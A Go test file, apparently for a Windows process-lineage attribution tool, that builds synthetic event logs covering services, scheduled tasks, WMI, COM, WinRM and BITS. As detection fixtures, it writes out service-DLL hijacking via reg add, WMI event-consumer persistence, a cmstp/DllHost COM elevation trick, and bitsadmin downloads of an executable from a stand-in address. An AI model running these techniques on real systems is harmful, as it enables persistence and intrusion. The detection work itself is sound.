package provenance

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"ashiato/internal/event"
	"ashiato/internal/normalize"
	"ashiato/internal/world"
)

const (
	wmic     = `C:\Windows\System32\wbem\WMIC.exe`
	dllhost  = `C:\Windows\System32\dllhost.exe`
	mmc      = `C:\Windows\System32\mmc.exe`
	msiexec  = `C:\Windows\System32\msiexec.exe`
	bitsTool = `C:\Windows\System32\bitsadmin.exe`
	wsman    = `C:\Windows\System32\wsmprovhost.exe`
	launcher = `C:\Windows\system32\svchost.exe -k DcomLaunch -p`
	schedule = `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
	bitsHost = `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`
)

// below starts a process as the child of a broker with that command line.
func (l *log) below(seq, parent int, broker, brokerCommand, image, cmd string, more ...string) *event.Event {
	return l.start(seq, parent, image, cmd, broker, append([]string{"ParentCommandLine", brokerCommand}, more...)...)
}

func (l *log) remoteLogon(luid, user string) {
	l.security(4624, "TargetLogonId", luid, "LogonType", "3", "IpAddress", "192.0.2.7", "IpPort", "50123", "TargetUserName", user)
}

func (l *log) wmi(id uint32, data ...string) *event.Event {
	return l.add("Microsoft-Windows-WMI-Activity", "Microsoft-Windows-WMI-Activity/Operational", id, data...)
}

func (l *log) bits(id uint32, data ...string) *event.Event {
	return l.add("Microsoft-Windows-Bits-Client", "Microsoft-Windows-Bits-Client/Operational", id, data...)
}

// msi writes a record of a classic provider: values without names.
func (l *log) msi(id uint32, values ...string) *event.Event {
	var data []string
	for _, v := range values {
		data = append(data, "Data", v)
	}
	return l.add("MsiInstaller", "Application", id, data...)
}

func (l *log) tasks(id uint32, data ...string) *event.Event {
	return l.add("Microsoft-Windows-TaskScheduler", "Microsoft-Windows-TaskScheduler/Operational", id, data...)
}

// wait lets n seconds pass.
func (l *log) wait(n int) {
	for range n {
		l.sysmon(5, "ProcessGuid", guid(9999), "ProcessId", "9", "Image", "C:\\idle.exe")
	}
}

func TestServices(t *testing.T) {
	const image = `C:\Program Files\An App\svc.exe`
	install := func(l *log, more ...string) {
		l.security(4697, append([]string{"ServiceName", "Svc", "ServiceFileName", `"` + image + `" -k`}, more...)...)
	}
	runHandoffs(t, []handoffCase{
		{
			"the start key before the process id", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.start(3, 1, `C:\b.exe`, "b", explorer)
				install(l, "ClientProcessStartKey", fmt.Sprint(uint64(8)<<48|2), "ClientProcessId", "1003")
			},
			[]string{"a.exe registered Svc A start-key"},
			[]string{"b.exe registered Svc A client-pid"},
		},
		{
			"process id and time where the key is another boot's", func(l *log) {
				l.start(3, 1, `C:\b.exe`, "b", explorer)
				install(l, "ClientProcessStartKey", fmt.Sprint(uint64(7)<<48|2), "ClientProcessId", "0x3EB")
			},
			[]string{"b.exe registered Svc A client-pid"},
			nil,
		},
		{
			"a remote caller: key and id are zero", func(l *log) {
				l.remoteLogon("0xabc", "u")
				install(l, "ClientProcessStartKey", "0", "ClientProcessId", "0", "SubjectLogonId", "0xABC")
			},
			[]string{"u registered Svc A logon-id"},
			nil,
		},
		{
			"version 0 knows the session only", func(l *log) {
				l.remoteLogon("0xabc", "u")
				install(l, "SubjectLogonId", "0xabc")
			},
			[]string{"u registered Svc A logon-id"},
			nil,
		},
		{
			"the system's own session is nobody's", func(l *log) {
				l.remoteLogon("0x3e7", "u")
				install(l, "SubjectLogonId", "0x3e7")
			},
			nil,
			[]string{"u registered Svc A logon-id"},
		},
		{
			"a path with blanks, quoted here and not there, in variables", func(l *log) {
				l.add("Service Control Manager", "System", 7045, "ServiceName", "Svc", "ImagePath", `%ProgramFiles%\An App\svc.exe -k`)
				l.start(5, 9, image, `"`+image+`"  -k`, services)
			},
			[]string{"Svc ran svc.exe B service-image"},
			nil,
		},
		{
			"started before it was registered, or by another parent: not it", func(l *log) {
				l.start(4, 9, image, `"`+image+`" -k`, services)
				l.wait(5)
				install(l)
				l.start(5, 1, image, `"`+image+`" -k`, explorer)
			},
			nil,
			[]string{"Svc ran svc.exe B service-image"},
		},
		{
			"registered again: each start is the registration's before it", func(l *log) {
				install(l)
				l.start(4, 9, image, `"`+image+`" -k`, services)
				l.wait(200)
				install(l)
				l.start(5, 9, `C:\Program Files\An App\svc.exe`, `"`+image+`" -k`, services)
			},
			[]string{"Svc ran svc.exe B service-image"},
			nil,
		},
		{
			"an svchost service by its DLL", func(l *log) {
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKLM\System\CurrentControlSet\Services\Svc\Parameters\ServiceDll`, "Details", `%SystemRoot%\System32\x.dat`)
				l.start(5, 9, svchost, `C:\Windows\system32\svchost.exe -k DcomLaunch`, services)
				l.by(7, 5, svchost, "ImageLoaded", `C:\Windows\System32\x.dat`)
			},
			[]string{"a.exe registered Svc A own-record", "Svc ran svchost.exe B service-dll"},
			nil,
		},
		{
			"one of Windows' own, its DLL exchanged by a command, by the name it runs under", func(l *log) {
				l.start(3, 9, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s AppMgmt`, services) // before
				l.wait(5)
				l.start(4, 2, `C:\Windows\System32\reg.exe`, `reg add HKLM\SYSTEM\CurrentControlSet\Services\AppMgmt\Parameters /v ServiceDll /d C:\x.dat /f`, `C:\a.exe`)
				l.wait(5)
				l.start(5, 9, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s AppMgmt`, services)
				l.start(6, 9, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Other`, services)
				l.start(7, 5, `C:\child.exe`, "child", svchost)
				l.start(8, 3, `C:\other.exe`, "other", svchost)
			},
			[]string{"reg.exe configured AppMgmt A command-line", "AppMgmt ran svchost.exe B service-name", "svchost.exe started child.exe A parent-guid", "[svchost.exe started other.exe A parent-guid]"},
			[]string{"svchost.exe started other.exe A parent-guid"},
		},
		{
			"the same with a record of the DLL", func(l *log) {
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKLM\System\CurrentControlSet\Services\AppMgmt\Parameters\ServiceDll`, "Details", `C:\x.dat`)
				l.start(5, 9, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s AppMgmt`, services)
			},
			[]string{"a.exe registered AppMgmt A own-record", "AppMgmt ran svchost.exe B service-name"},
			nil,
		},
		{
			"a service host that puts a shortcut on a stick acts for itself", func(l *log) {
				l.attach("S1")
				l.start(3, 9, svchost, `C:\Windows\system32\svchost.exe -k X`, services)
				l.access(3, 2, `\Device\HarddiskVolume6\Data.lnk`)
				l.start(4, 3, `C:\miner.exe`, "miner", svchost)
			},
			[]string{"svchost.exe started miner.exe A parent-guid"},
			nil,
		},
		{
			"one that writes to another disk does not", func(l *log) {
				l.start(3, 9, svchost, `C:\Windows\system32\svchost.exe -k X`, services)
				l.by(11, 3, svchost, "TargetFilename", `Q:\a.lnk`)
				l.start(4, 3, `C:\helper.exe`, "helper", svchost)
			},
			[]string{"[svchost.exe started helper.exe A parent-guid]"},
			nil,
		},
		{
			"nor one that writes documents there, or reads", func(l *log) {
				l.attach("S1")
				l.start(3, 9, svchost, `C:\Windows\system32\svchost.exe -k X`, services)
				l.access(3, 2, `\Device\HarddiskVolume6\Data.docx`)
				l.access(3, 1, `\Device\HarddiskVolume6\Data.lnk`)
				l.start(4, 3, `C:\helper.exe`, "helper", svchost)
			},
			[]string{"[svchost.exe started helper.exe A parent-guid]"},
			nil,
		},
		{
			"a start type that was changed runs nothing", func(l *log) {
				l.start(4, 2, `C:\Windows\System32\reg.exe`, `reg add HKLM\SYSTEM\CurrentControlSet\Services\AppMgmt /v Start /d 2 /f`, `C:\a.exe`)
				l.wait(5)
				l.start(5, 9, svchost, `C:\Windows\system32\svchost.exe -k netsvcs -p -s AppMgmt`, services)
			},
			nil,
			[]string{"AppMgmt ran svchost.exe B service-name"},
		},
	})
}

func TestTasks(t *testing.T) {
	const xml = `&lt;?xml version="1.0" encoding="UTF-16"?&gt;&lt;Task&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;%windir%\t.exe&lt;/Command&gt;&lt;Arguments&gt;/a &amp;amp; b&lt;/Arguments&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;`
	const handler = `<Task><Actions><ComHandler><ClassId>{11111111-2222-3333-4444-555555555555}</ClassId></ComHandler></Actions></Task>`
	host := `C:\Windows\System32\taskhostw.exe`
	runHandoffs(t, []handoffCase{
		{
			"entity-escaped XML, run by the Schedule service", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.security(4698, "TaskName", `\T`, "TaskContent", xml, "ClientProcessStartKey", fmt.Sprint(uint64(8)<<48|2))
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `C:\Windows\t.exe /a & b`)
			},
			[]string{"a.exe registered T A start-key", "T ran t.exe B task-action"},
			nil,
		},
		{
			"an updated task under its new name of the field", func(l *log) {
				l.security(4702, "TaskName", `\T`, "TaskContentNew", xml)
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `C:\Windows\t.exe /a & b`)
			},
			[]string{"T ran t.exe B task-action"},
			nil,
		},
		{
			"two tasks with one action", func(l *log) {
				l.security(4698, "TaskName", `\T`, "TaskContent", xml)
				l.security(4698, "TaskName", `\U`, "TaskContent", xml)
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `C:\Windows\t.exe /a & b`)
			},
			[]string{"T ran t.exe C task-action", "U ran t.exe C task-action"},
			nil,
		},
		{
			"129 with its process id", func(l *log) {
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `t.exe`)
				l.tasks(129, "TaskName", `\T`, "Path", "t.exe", "ProcessID", "1005")
			},
			[]string{"T ran t.exe A task-pid"},
			[]string{"T ran t.exe B task-start"},
		},
		{
			"129 whose process id was lost", func(l *log) {
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `t.exe`)
				l.tasks(129, "TaskName", `\T`, "Path", `%windir%\t.exe`)
			},
			[]string{"T ran t.exe B task-start"},
			nil,
		},
		{
			"200 names the program", func(l *log) {
				l.tasks(200, "TaskName", `\T`, "ActionName", `C:\Windows\t.exe`, "TaskInstanceId", "{1}")
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `t.exe`)
			},
			[]string{"T ran t.exe B task-start"},
			nil,
		},
		{
			"two tasks start one program at one time", func(l *log) {
				l.tasks(129, "TaskName", `\T`, "Path", `t.exe`)
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `t.exe`)
				l.tasks(129, "TaskName", `\U`, "Path", `t.exe`)
			},
			[]string{"T ran t.exe C task-start", "U ran t.exe C task-start"},
			nil,
		},
		{
			"too long after, or by another service: not it", func(l *log) {
				l.tasks(129, "TaskName", `\T`, "Path", `t.exe`)
				l.below(6, 8, svchost, launcher, `C:\Windows\t.exe`, `t.exe`)
				l.wait(4)
				l.below(5, 9, svchost, schedule, `C:\Windows\t.exe`, `t.exe`)
			},
			nil,
			[]string{"T ran t.exe B task-start", "T ran t.exe C task-start"},
		},
		{
			"a COM handler, by the module that the registry names", func(l *log) {
				l.security(4698, "TaskName", `\T`, "TaskContent", handler)
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKU\S-1_Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32\(Default)`, "Details", `C:\h.dll`)
				l.below(5, 9, svchost, schedule, host, `taskhostw.exe`)
				l.by(7, 5, host, "ImageLoaded", `C:\h.dll`)
				l.start(6, 5, cmdExe, "cmd", host)
			},
			[]string{"T ran taskhostw.exe B task-handler", "taskhostw.exe started cmd.exe A parent-guid"},
			nil,
		},
		{
			"two tasks with one handler", func(l *log) {
				l.security(4698, "TaskName", `\T`, "TaskContent", handler)
				l.security(4698, "TaskName", `\U`, "TaskContent", handler)
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKU\S-1_Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32\(Default)`, "Details", `C:\h.dll`)
				l.below(5, 9, svchost, schedule, host, `taskhostw.exe`)
				l.by(7, 5, host, "ImageLoaded", `C:\h.dll`)
			},
			[]string{"[T ran taskhostw.exe C task-handler]", "[U ran taskhostw.exe C task-handler]"},
			nil,
		},
		{
			"another module in the handler's host: not it", func(l *log) {
				l.security(4698, "TaskName", `\T`, "TaskContent", handler)
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKU\S-1_Classes\CLSID\{11111111-2222-3333-4444-555555555556}\InprocServer32\(Default)`, "Details", `C:\h.dll`)
				l.below(5, 9, svchost, schedule, host, `taskhostw.exe`)
				l.by(7, 5, host, "ImageLoaded", `C:\h.dll`)
			},
			nil,
			[]string{"T ran taskhostw.exe B task-handler"},
		},
		{
			"a task written to the scheduler's cache by hand", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.by(13, 2, `C:\a.exe`, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Dir\T\Id`, "Details", "{1}")
			},
			[]string{"a.exe registered T A own-record"},
			nil,
		},
		{
			"… by the scheduler itself: says nothing of who asked", func(l *log) {
				l.by(13, 2, svchost, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\T\Id`, "Details", "{1}")
			},
			nil,
			[]string{"svchost.exe registered T A own-record", "[svchost.exe registered T A own-record]"},
		},
	})
}

func TestWMI(t *testing.T) {
	child := func(l *log, seq int, cmd string, more ...string) {
		l.below(seq, 9, wmiprvse, "wmiprvse.exe -secured -Embedding", `C:\Windows\System32\calc.exe`, cmd, more...)
	}
	system := []string{"LogonId", "0x3e7"}
	consumer := func(l *log, name, command string) {
		l.sysmon(20, "Operation", "Created", "User", `PC\u`, "Name", ` "`+name+`"`, "Type", "Command Line", "Destination", ` "`+strings.ReplaceAll(command, `\`, `\\`)+`"`)
	}
	runHandoffs(t, []handoffCase{
		{
			"ETW names both ends", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				child(l, 5, "calc")
				l.wmi(23, "OperationId", "7", "Commandline", "calc", "ClientProcessId", "1002", "CreatedProcessId", "1005", "IsLocal", "true",
					"CreatedProcessCreationTime", t0.Add(time.Second).Format(time.RFC3339Nano), "ClientProcessCreationTime", fmt.Sprint(t0.UnixNano()/100+116444736000000000))
			},
			[]string{"a.exe requested Win32_Process.Create A wmi-operation", "Win32_Process.Create ran calc.exe A wmi-child"},
			nil,
		},
		{
			"ETW of a remote call: the client's id is another machine's", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				child(l, 5, "calc")
				l.wmi(23, "ClientProcessId", "1002", "CreatedProcessId", "1005", "IsLocal", "false")
			},
			nil,
			[]string{"a.exe requested Win32_Process.Create A wmi-operation"},
		},
		{
			"a remote caller's session", func(l *log) {
				l.remoteLogon("0xabc", "u")
				child(l, 5, "calc", "LogonId", "0xABC")
			},
			[]string{"u requested Win32_Process.Create A wmi-logon", "Win32_Process.Create ran calc.exe A wmi-child"},
			[]string{"u logged-on calc.exe A logon-id"},
		},
		{
			"a caller of whom no logon is recorded", func(l *log) {
				child(l, 5, "calc", "LogonId", "0xabc")
				l.start(6, 5, cmdExe, "cmd", `C:\Windows\System32\calc.exe`, "LogonId", "0xabc")
			},
			[]string{"0xabc requested Win32_Process.Create B wmi-session"},
			nil,
		},
		{
			"… but programs of the session that WMI did not start: it is somebody's here", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer, "LogonId", "0xabc")
				child(l, 5, "calc", "LogonId", "0xabc")
			},
			nil,
			[]string{"0xabc requested Win32_Process.Create B wmi-session"},
		},
		{
			"wmic on this machine; its shell does not ask", func(l *log) {
				l.start(2, 1, cmdExe, `cmd /c wmic process call create "calc 1"`, explorer)
				l.start(3, 2, wmic, `wmic process call create "calc 1"`, cmdExe)
				child(l, 5, "calc  1")
			},
			[]string{"WMIC.exe requested Win32_Process.Create B wmi-command"},
			[]string{"cmd.exe requested Win32_Process.Create B wmi-command"},
		},
		{
			"wmic on another machine, by its short name", func(l *log) {
				l.on("A.example", func() { l.start(3, 2, wmic, `wmic /node:"B" process call create 'calc 1'`, cmdExe) })
				l.on("B.example", func() { child(l, 5, "calc 1") })
			},
			[]string{"WMIC.exe requested Win32_Process.Create B wmi-command"},
			nil,
		},
		{
			"… for a third machine: not it", func(l *log) {
				l.on("A.example", func() { l.start(3, 2, wmic, `wmic /node:C process call create "calc 1"`, cmdExe) })
				l.on("B.example", func() { child(l, 5, "calc 1") })
			},
			nil,
			[]string{"WMIC.exe requested Win32_Process.Create B wmi-command"},
		},
		{
			"PowerShell, in each of its ways", func(l *log) {
				l.start(2, 1, powershell, `powershell Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc 1'`, explorer)
				l.start(3, 1, powershell, `powershell Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = "calc 2"}`, explorer)
				l.start(4, 1, powershell, `powershell ([wmiclass]'\\PC\root\cimv2:Win32_Process').Create('calc 3')`, explorer)
				for i := 1; i <= 3; i++ {
					child(l, 10+i, fmt.Sprintf("calc %d", i))
				}
			},
			[]string{"powershell.exe requested Win32_Process.Create B wmi-command"},
			[]string{"powershell.exe requested Win32_Process.Create C wmi-command"},
		},
		{
			"two ask for the same: nobody knows which was it", func(l *log) {
				l.start(2, 1, wmic, `wmic process call create calc`, explorer)
				l.start(3, 1, wmic, `wmic process call create calc`, explorer)
				child(l, 5, "calc")
			},
			[]string{"WMIC.exe requested Win32_Process.Create C wmi-command"},
			[]string{"WMIC.exe requested Win32_Process.Create B wmi-command"},
		},
		{
			"asked for another program, or too long ago: not it", func(l *log) {
				l.start(2, 1, wmic, `wmic process call create calc`, explorer)
				l.start(3, 1, wmic, `wmic process list`, explorer)
				l.wait(90)
				child(l, 5, "calc")
				l.start(4, 1, wmic, `wmic process call create notepad`, explorer)
				child(l, 6, "calc")
			},
			nil,
			[]string{"WMIC.exe requested Win32_Process.Create B wmi-command"},
		},
		{
			"a consumer: who made it, who bound it, what it ran", func(l *log) {
				l.start(2, 1, wmic, `wmic /namespace:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="Bot", CommandLineTemplate="C:\x y\calc.exe 1"`, explorer)
				consumer(l, "Bot", `C:\x y\calc.exe 1`)
				l.start(3, 1, `C:\b.exe`, `b PATH __FilterToConsumerBinding CREATE Consumer='CommandLineEventConsumer.Name="Bot"'`, explorer)
				l.sysmon(21, "Operation", "Created", "Consumer", ` "CommandLineEventConsumer.Name=\"Bot\""`, "Filter", ` "__EventFilter.Name=\"F\""`)
				l.wait(500)
				l.below(5, 9, wmiprvse, "wmiprvse.exe -Embedding", `C:\x y\calc.exe`, `C:\x y\calc.exe 1`, system...)
			},
			[]string{"WMIC.exe registered Bot B wmi-consumer-name", "b.exe registered Bot B wmi-consumer-name", "Bot ran calc.exe B wmi-consumer-command"},
			nil,
		},
		{
			"the same program in a person's session: not the consumer's", func(l *log) {
				consumer(l, "Bot", "calc 1")
				child(l, 5, "calc 1", "LogonId", "0xabc")
			},
			nil,
			[]string{"Bot ran calc.exe B wmi-consumer-command"},
		},
		{
			"deleted before, made again after", func(l *log) {
				consumer(l, "Bot", "calc 1")
				l.sysmon(20, "Operation", "Deleted", "Name", ` "Bot"`, "Type", "Command Line", "Destination", ` "calc 1"`)
				l.wait(5)
				child(l, 5, "calc 1", system...)
			},
			nil,
			[]string{"Bot ran calc.exe B wmi-consumer-command"},
		},
		{
			"two consumers with one command", func(l *log) {
				consumer(l, "Bot", "calc 1")
				consumer(l, "Cat", "calc 1")
				child(l, 5, "calc 1", system...)
			},
			[]string{"Bot ran calc.exe C wmi-consumer-command", "Cat ran calc.exe C wmi-consumer-command"},
			nil,
		},
		{
			"a template with what WMI fills in", func(l *log) {
				consumer(l, "Bot", `calc.exe /pid %TargetInstance.ProcessId% /q`)
				child(l, 5, "calc.exe /pid 17 /q", system...)
				child(l, 6, "calc.exe /pid 17 /r", system...)
			},
			[]string{"Bot ran calc.exe B wmi-consumer-command"},
			nil,
		},
		{
			"5861, as the record and as its message", func(l *log) {
				l.start(2, 1, powershell, `powershell Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{Name='Bot'}; Set-WmiInstance -Class __FilterToConsumerBinding`, explorer)
				l.wmi(5861, "Namespace", "//./root/subscription", "ESS", "F", "CONSUMER", `CommandLineEventConsumer="Bot"`, "PossibleCause", "instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\x\\\\calc.exe \\\"1\\\"\";\n};")
				l.wmi(5861, "Message", `Namespace = //./root/subscription; Eventfilter = F (refer to its activate eventid:5859); Consumer = ActiveScriptEventConsumer="Script"; PossibleCause = Binding EventFilter: x; y = z`)
				child(l, 5, `C:\x\calc.exe "1"`, system...)
				l.below(6, 9, svchost, launcher, `C:\Windows\System32\wbem\scrcons.exe`, "scrcons.exe -Embedding", system...)
				l.start(7, 6, cmdExe, "cmd", `C:\Windows\System32\wbem\scrcons.exe`)
			},
			[]string{"powershell.exe registered Bot B wmi-consumer-name", "Bot ran calc.exe B wmi-consumer-command", "Script ran scrcons.exe B wmi-consumer-script", "scrcons.exe started cmd.exe A parent-guid"},
			[]string{"powershell.exe registered Script B wmi-consumer-name"},
		},
		{
			"two script consumers share a host", func(l *log) {
				for _, name := range []string{"S1", "S2"} {
					l.sysmon(20, "Operation", "Created", "Name", ` "`+name+`"`, "Type", "Script", "Destination", ` "x"`)
				}
				l.below(6, 9, svchost, launcher, `C:\Windows\System32\wbem\scrcons.exe`, "scrcons.exe -Embedding", system...)
			},
			[]string{"[S1 ran scrcons.exe C wmi-consumer-script]", "[S2 ran scrcons.exe C wmi-consumer-script]"},
			nil,
		},
		{
			"ETW names who put a consumer", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.wmi(11, "Operation", `Start IWbemServices::PutInstance - root\subscription : CommandLineEventConsumer.Name="Bot"`, "ClientProcessId", "1002")
				consumer(l, "Bot", "calc 1")
			},
			[]string{"a.exe registered Bot A wmi-client"},
			nil,
		},
		{
			"whoever deletes it did not make it", func(l *log) {
				l.start(2, 1, wmic, `wmic /namespace:"\\root\subscription" PATH CommandLineEventConsumer WHERE Name="Bot" DELETE`, explorer)
				consumer(l, "Bot", `calc 1`)
			},
			nil,
			[]string{"WMIC.exe registered Bot B wmi-consumer-name"},
		},
	})
}

func TestCOM(t *testing.T) {
	const bypass = `C:\Windows\system32\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}`
	runHandoffs(t, []handoffCase{
		{
			"a caller's session", func(l *log) {
				l.remoteLogon("0xabc", "u")
				l.below(5, 9, svchost, launcher, mmc, `C:\Windows\system32\mmc.exe -Embedding`, "LogonId", "0xabc")
			},
			[]string{"u requested mmc.exe A com-logon", "mmc.exe ran mmc.exe A com-server"},
			[]string{"u logged-on mmc.exe A logon-id"},
		},
		{
			"who works by remote desktop calls from here", func(l *log) {
				l.security(4624, "TargetLogonId", "0xabc", "LogonType", "10", "IpAddress", "192.0.2.7", "TargetUserName", "u")
				l.below(5, 9, svchost, launcher, mmc, `C:\Windows\system32\mmc.exe -Embedding`, "LogonId", "0xabc")
			},
			nil,
			[]string{"u requested mmc.exe A com-logon"},
		},
		{
			"a script names the class, here and elsewhere", func(l *log) {
				l.on("A.example", func() {
					l.start(2, 1, powershell, `powershell [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application", "B")).Document`, explorer)
				})
				l.on("B.example", func() {
					l.below(5, 9, svchost, launcher, mmc, `C:\Windows\system32\mmc.exe -Embedding`)
					l.start(3, 1, powershell, `powershell New-Object -ComObject Excel.Application`, explorer)
					l.below(6, 9, svchost, launcher, `C:\Office\EXCEL.EXE`, `"C:\Office\EXCEL.EXE" /automation -Embedding`)
				})
			},
			[]string{"powershell.exe requested mmc.exe B com-class", "powershell.exe requested EXCEL.EXE B com-class"},
			nil,
		},
		{
			"another class: not it", func(l *log) {
				l.start(3, 1, powershell, `powershell New-Object -ComObject WScript.Shell`, explorer)
				l.below(5, 9, svchost, launcher, mmc, `C:\Windows\system32\mmc.exe -Embedding`)
			},
			nil,
			[]string{"powershell.exe requested mmc.exe B com-class"},
		},
		{
			"a surrogate's child, and a guess who it was for", func(l *log) {
				l.start(2, 1, cmdExe, "cmd", explorer, "LogonId", "0xabc")
				l.start(3, 2, `C:\Windows\System32\cmstp.exe`, "cmstp /s x.inf", cmdExe, "LogonId", "0xabc")
				l.below(5, 9, svchost, launcher, dllhost, bypass, "LogonId", "0xabc")
				l.start(6, 5, cmdExe, "cmd", dllhost, "LogonId", "0xabc")
			},
			[]string{
				"cmstp.exe requested {3E5FC7F9-9A51-4367-9063-A120244FBEC7} C com-session", "{3E5FC7F9-9A51-4367-9063-A120244FBEC7} ran cmd.exe A com-server",
				"[{3E5FC7F9-9A51-4367-9063-A120244FBEC7} ran dllhost.exe A com-server]",
			},
			[]string{"cmd.exe requested {3E5FC7F9-9A51-4367-9063-A120244FBEC7} C com-session"},
		},
		{
			"a class id in a command line", func(l *log) {
				l.start(3, 1, `C:\Windows\System32\rundll32.exe`, `rundll32 -sta {3E5FC7F9-9A51-4367-9063-A120244FBEC7}`, explorer)
				l.below(5, 9, svchost, launcher, dllhost, bypass)
			},
			[]string{"rundll32.exe requested {3E5FC7F9-9A51-4367-9063-A120244FBEC7} B com-class"},
			nil,
		},
		{
			"servers without children and of no caller say nothing", func(l *log) {
				l.start(3, 2, `C:\a.exe`, "a", cmdExe, "LogonId", "0xabc")
				l.below(5, 9, svchost, launcher, dllhost, bypass, "LogonId", "0xabc")
			},
			nil,
			[]string{"a.exe requested {3E5FC7F9-9A51-4367-9063-A120244FBEC7} C com-session"},
		},
	})
}

func TestRemoteShells(t *testing.T) {
	shell := func(l *log, more ...string) {
		l.below(5, 9, svchost, launcher, wsman, `C:\Windows\system32\wsmprovhost.exe -Embedding`, more...)
		l.start(6, 5, cmdExe, "cmd", wsman, more...)
	}
	client := func(l *log, pid uint32, connection string) {
		e := l.add("Microsoft-Windows-WinRM", "Microsoft-Windows-WinRM/Operational", 6, "connection", connection)
		e.PID = pid
	}
	runHandoffs(t, []handoffCase{
		{
			"a session's shell carries lineage", func(l *log) {
				l.remoteLogon("0xabc", "u")
				shell(l, "LogonId", "0xabc")
			},
			[]string{"u logged-on wsmprovhost.exe A logon-id", "wsmprovhost.exe started cmd.exe A parent-guid"},
			nil,
		},
		{
			"the client's record", func(l *log) {
				l.on("A.example", func() {
					l.start(2, 1, powershell, "powershell", explorer)
					client(l, 1002, "b.example/wsman?PSVersion=5.1")
				})
				l.on("B.example", func() { shell(l) })
			},
			[]string{"powershell.exe requested wsmprovhost.exe B winrm-client"},
			nil,
		},
		{
			"the client's command line", func(l *log) {
				l.on("A.example", func() {
					l.start(2, 1, powershell, "powershell Invoke-Command -ComputerName 'B' -ScriptBlock {x}", explorer)
				})
				l.on("B.example", func() { shell(l) })
			},
			[]string{"powershell.exe requested wsmprovhost.exe B winrm-command"},
			nil,
		},
		{
			"another machine's shell: not it", func(l *log) {
				l.on("A.example", func() {
					l.start(2, 1, powershell, "powershell Invoke-Command -ComputerName C -ScriptBlock {x}", explorer)
					client(l, 1002, "http://c:5985/wsman")
				})
				l.on("B.example", func() { shell(l) })
			},
			nil,
			[]string{"powershell.exe requested wsmprovhost.exe B winrm-command", "powershell.exe requested wsmprovhost.exe B winrm-client"},
		},
		{
			"two clients at one time", func(l *log) {
				l.on("A.example", func() { l.start(2, 1, `C:\Windows\System32\winrs.exe`, "winrs -r:http://B:5985 cmd", explorer) })
				l.on("C.example", func() { l.start(2, 1, `C:\Windows\System32\winrs.exe`, "winrs -r:B cmd", explorer) })
				l.on("B.example", func() { shell(l) })
			},
			[]string{"winrs.exe requested wsmprovhost.exe C winrm-command"},
			[]string{"winrs.exe requested wsmprovhost.exe B winrm-command"},
		},
	})
}

func TestBITS(t *testing.T) {
	const job = "{316d5a72-c392-42ac-820f-8f390d3371e5}"
	runHandoffs(t, []handoffCase{
		{
			"version 2 names the client", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.bits(3, "jobTitle", "J", "jobId", job, "jobOwner", `PC\u`, "processPath", `C:\a.exe`, "processId", "1002")
			},
			[]string{"a.exe requested J A bits-client"},
			nil,
		},
		{
			"… also one whose start was not recorded", func(l *log) {
				l.bits(3, "jobTitle", "J", "jobId", job, "processPath", `C:\a.exe`, "processId", "1002")
			},
			[]string{"a.exe requested J A bits-client"},
			nil,
		},
		{
			"the process id is another program's by now", func(l *log) {
				l.start(2, 1, `C:\other.exe`, "o", explorer)
				l.bits(3, "jobTitle", "J", "jobId", job, "processPath", `C:\a.exe`, "processId", "1002")
			},
			[]string{"a.exe requested J A bits-client"},
			[]string{"other.exe requested J A bits-client"},
		},
		{
			"version 0: the command line names the job; the next record its id", func(l *log) {
				l.start(2, 1, bitsTool, `bitsadmin /transfer J /priority HIGH http://192.0.2.1/x.exe C:\t\x.exe`, explorer)
				l.bits(3, "string", "J", "string2", `PC\u`)
				l.bits(59, "name", "J", "Id", job, "url", "http://192.0.2.1/x.exe")
				l.bits(60, "name", "J", "Id", job, "url", "http://192.0.2.1/x.exe")
			},
			[]string{"bitsadmin.exe requested J B bits-command"},
			nil,
		},
		{
			"PowerShell's jobs all have one name: the address tells", func(l *log) {
				l.start(2, 1, powershell, `powershell Start-BitsTransfer -Source http://192.0.2.1/a -Destination C:\t\a`, explorer)
